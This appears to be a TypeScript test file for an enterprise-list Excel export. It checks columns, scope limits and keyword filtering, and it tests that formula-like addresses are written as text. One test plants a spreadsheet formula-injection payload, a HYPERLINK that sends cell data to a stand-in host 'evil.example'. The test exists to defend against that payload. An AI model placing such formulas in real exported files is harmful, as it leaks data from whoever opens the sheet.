import ExcelJS from 'exceljs';
import { DEMO, dataOf, openTestCloud, type TestCloud } from '../support/test-cloud';

/** The enterprise list as a workbook: the list's filters and the caller's scope, read back from storage. */
describe('enterprise.export', () => {
  let t: TestCloud;
  beforeAll(() => {
    t = openTestCloud();
  });
  afterAll(() => t.close());

  const workbookOf = async (fileID: string) => {
    const { fileContent } = await t.cloud.run(() => t.cloud.sdk.downloadFile({ fileID }));
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(fileContent as never);
    return book.getWorksheet('重点企业名单')!;
  };

  it('gives the district every enterprise on the list, one row each, with unit and steward', async () => {
    const exported = dataOf(await t.as(DEMO.district).call<{ fileID: string; url: string; rows: number }>('enterprise.export', {}));
    const active = await t.read('enterprises', { status: 'active' });
    expect(exported.rows).toBe(active.length);
    expect(exported.url).toMatch(/^http/);
    const sheet = await workbookOf(exported.fileID);
    expect(sheet.getRow(1).values).toEqual([undefined, '企业名称', '统一社会信用代码', '所属单位', '服务管家', '行业', '地址', '最近联系', '状态']);
    expect(sheet.rowCount).toBe(active.length + 1);
    const ent001 = active.find((e: { _id: string }) => e._id === 'ent-001');
    const row = sheet.getRows(2, sheet.rowCount - 1)!.find((r) => r.getCell(2).value === ent001.creditCode)!;
    expect(row.getCell(1).value).toBe(ent001.name);
    expect(row.getCell(3).value).toBe('陆家嘴管理局');
    expect(row.getCell(4).value).toBe(ent001.stewardName);
  });

  it('holds a unit admin to their unit, and follows the keyword filter', async () => {
    const own = dataOf(await t.as(DEMO.unitAdmin).call<{ fileID: string; rows: number }>('enterprise.export', {}));
    expect(own.rows).toBe((await t.read('enterprises', { status: 'active', unitId: 'unit-z01' })).length);
    expect(await t.as(DEMO.unitAdmin).call('enterprise.export', { unitId: 'unit-z02' })).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
    const found = dataOf(await t.as(DEMO.district).call<{ fileID: string; rows: number }>('enterprise.export', { keyword: '联影' }));
    const names = (await workbookOf(found.fileID)).getColumn(1).values.slice(2);
    expect(names.length).toBe(found.rows);
    expect(names.every((n) => String(n).includes('联影'))).toBe(true);
  });

  it('writes an address or industry that looks like a formula as text', async () => {
    const address = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")';
    await t.cloud.run(() => t.cloud.database().collection('enterprises').doc('ent-001').update({ data: { address, industry: '＋集成电路' } }));
    const exported = dataOf(await t.as(DEMO.district).call<{ fileID: string; rows: number }>('enterprise.export', {}));
    const sheet = await workbookOf(exported.fileID);
    const ent001 = (await t.read('enterprises', { _id: 'ent-001' }))[0];
    const row = sheet.getRows(2, sheet.rowCount - 1)!.find((r) => r.getCell(2).value === ent001.creditCode)!;
    expect(row.getCell(6).value).toBe(`'${address}`);
    expect(row.getCell(5).value).toBe("'＋集成电路");
  });
});
